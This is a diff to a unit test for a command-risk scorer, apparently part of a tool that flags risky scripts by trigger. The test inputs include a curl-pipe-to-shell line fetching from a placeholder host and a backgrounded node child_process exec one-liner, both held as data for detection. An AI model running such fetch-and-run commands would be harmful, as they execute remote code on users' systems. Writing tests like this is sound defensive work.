@@ -10,7 +10,8 @@ describe('command risk', () => {
   it('rises with the trigger and the signals', () => {
     assert.equal(risk('curl -s https://x.example.invalid/a | sh', 'dev'), 'critical');
     assert.equal(risk('nohup node server &', 'install', true), 'critical');
-    assert.equal(risk('nohup node server &', 'dev', true), 'medium');
+    assert.equal(risk('nohup node server &', 'dev', true), 'info');
+    assert.equal(risk('nohup node -e "require(\'child_process\').exec(x)" &', 'dev'), 'medium');
     assert.equal(risk('node -e "1"', 'open'), 'high');
     assert.equal(risk('node scripts/setup.js', 'install', true), 'high');
     assert.equal(risk('node scripts/setup.js', 'dev', true), 'info');
